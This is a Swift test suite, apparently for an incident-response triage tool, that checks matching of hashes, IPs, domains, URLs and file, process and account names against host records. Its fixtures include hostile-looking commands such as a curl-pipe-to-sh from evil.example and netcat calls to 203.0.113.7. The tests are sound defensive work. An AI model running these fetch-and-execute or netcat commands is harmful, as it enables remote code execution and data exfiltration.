import CaseModel
import HostFacts
import Testing

@testable import Triage

@Suite struct SweepTests {
  private let digest = String(repeating: "1", count: 64)

  private func sweep(_ lines: String, _ facts: HostFact...) -> SweepResult {
    var sweep = Sweep(IndicatorList.read(Array(lines.utf8)))
    for fact in facts { sweep.observe(fact) }
    return sweep.result
  }

  @Test func aDigestIsFoundWhereverAFactHoldsOne() {
    var target = HostSketch.target("/opt/x")
    target.digest = digest
    let result = sweep(
      "sha256,\(digest.uppercased()),implant", .process(FleetSketch.process(7, "/tmp/a", digest: digest)),
      .file(HostSketch.file("/srv/b") { $0.sha256 = digest }),
      .persistence(HostSketch.entry(.cron, "/etc/cron.d/c", command: "/opt/x", target: target)),
      .file(HostSketch.file("/srv/other") { $0.sha256 = String(repeating: "2", count: 64) }))
    #expect(
      result.hits.map(\.matched) == ["running program", "file", "what a persistence entry starts"])
    #expect(result.hits.map(\.evidence.source.text) == ["/proc/7/exe", "/srv/b", "/opt/x"])
    #expect(result.hits.allSatisfy { $0.evidence.exhibit == digest && $0.indicator.note == "implant" })
    #expect(result.records == 4)
  }

  @Test func addressesAreFoundInSocketsLoginsLogsAndCommands() {
    var login = LoginRecord(book: "wtmp", kind: "user", user: "root", source: "/var/log/wtmp")
    login.address = "203.0.113.7"
    let result = sweep(
      "ip,203.0.113.7", .socket(FleetSketch.connection(to: "::ffff:203.0.113.7", pid: 4)), .login(login),
      .history(HistoryRecord(account: "root", path: "/root/.bash_history", line: 9, command: "nc 203.0.113.7 4444")),
      .logEvent(LogEventRecord(kind: .other, source: "/var/log/syslog", message: "from 203.0.113.7:22", line: 3)),
      .history(HistoryRecord(account: "root", path: "/root/.bash_history", line: 10, command: "nc 203.0.113.70 1")))
    #expect(
      result.hits.map(\.evidence.source.text) == [
        "socket:[140000]", "/var/log/wtmp", "/root/.bash_history:9", "/var/log/syslog:3",
      ])
  }

  @Test func aRangeHoldsItsAddressesAndNoOthers() {
    func connection(_ address: String) -> HostFact { .socket(FleetSketch.connection(to: address, pid: 4)) }
    #expect(sweep("cidr,203.0.113.0/25", connection("203.0.113.127")).hitCount == 1)
    #expect(sweep("cidr,203.0.113.0/25", connection("203.0.113.128")).hitCount == 0)
    #expect(sweep("cidr,2001:db8::/32", connection("2001:db8:9::1")).hitCount == 1)
    #expect(sweep("cidr,2001:db8::/32", connection("203.0.113.1")).hitCount == 0)
  }

  @Test(arguments: [
    ("domain,evil.example", "curl http://cdn.evil.example:8080/x", 1), ("domain,evil.example", "ping evil.example.", 1),
    ("domain,evil.example", "ping notevil.example", 0), ("domain,evil.example", "ping evil.example.org", 0),
    ("url,http://evil.example/a.sh", "curl -s https://EVIL.example/a.sh|sh", 1),
    ("url,http://evil.example/a.sh", "wget 'evil.example/a.sh?x=1'", 1),
    ("url,http://evil.example/a.sh", "wget http://evil.example/b.sh", 0),
    ("url,http://evil.example/a.sh", "wget http://user@evil.example/a.sh/", 1),
    ("file,run.sh", "sh /tmp/run.sh -x", 1), ("path,/tmp/run.sh", "sh /tmp/run.sh;ls", 1),
    ("path,/tmp/run.sh", "sh /var/tmp/run.sh", 0),
  ])
  func namesAreFoundInCommands(indicator: String, command: String, hits: Int) {
    let line = HistoryRecord(account: "root", path: "/root/.bash_history", line: 1, command: HostString(command))
    #expect(sweep(indicator, .history(line)).hits.count == hits)
  }

  @Test func namesOfFilesProcessesAndAccountsAreCompared() {
    var key = FleetSketch.key("SHA256:evil")
    key.comment = "x"
    let result = sweep(
      "file,kworkerd\nprocess,xmrig\nuser,toor\nssh-key,SHA256:evil\npath,/dev/shm/p",
      .file(HostSketch.file("/usr/lib/kworkerd")), .process(FleetSketch.process(7, "/tmp/xmrig", digest: nil)),
      .account(HostSketch.account("toor", 0)), .sshKey(key),
      .process(FleetSketch.process(8, "/usr/bin/x", digest: nil) { $0.libraries = ["/dev/shm/p"] }),
      .file(HostSketch.file("/usr/lib/kworkerd2")))
    #expect(
      result.hits.map(\.matched) == ["file", "process name", "account", "authorized ssh key", "mapped file"])
  }

  @Test func whatFactsDoNotHoldIsCountedAndNotPromised() {
    let result = sweep("md5,d41d8cd98f00b204e9800998ecf8427e\nip,203.0.113.1")
    #expect(result.searchable == 1)
    #expect(result.unsearchable == 1)
  }

  @Test func hitsOfOneIndicatorAreBoundedAndCounted() {
    var sweep = Sweep(IndicatorList.read(Array("ip,203.0.113.7\nip,203.0.113.8".utf8)))
    for line in 1...500 {
      sweep.observe(
        .history(HistoryRecord(account: "r", path: "/h", line: line, command: "nc 203.0.113.7 1")))
    }
    sweep.observe(.history(HistoryRecord(account: "r", path: "/h", line: 501, command: "nc 203.0.113.8 1")))
    #expect(sweep.result.hits.count == Sweep.hitLimitPerIndicator + 1)
    #expect(sweep.result.hitCount == 501)
  }

  @Test func anOrdinaryHostHasNoHits() {
    var sweep = Sweep(
      IndicatorList.read(Array("sha256,\(digest)\nip,203.0.113.7\ndomain,evil.example\nuser,toor".utf8)))
    for fact in FleetSketch("a").facts { sweep.observe(fact) }
    #expect(sweep.result.hits == [])
  }

  @Test func aNameWithOddBytesIsComparedByItsBytes() {
    let list = "file,caf\u{e9}\u{200b}.sh"
    let name = HostString("/tmp/caf\u{e9}\u{200b}.sh")
    #expect(sweep(list, .file(HostSketch.file(name))).hits.count == 1)
    #expect(sweep(list, .file(HostSketch.file("/tmp/caf\u{e9}.sh"))).hits.count == 0)
  }
}
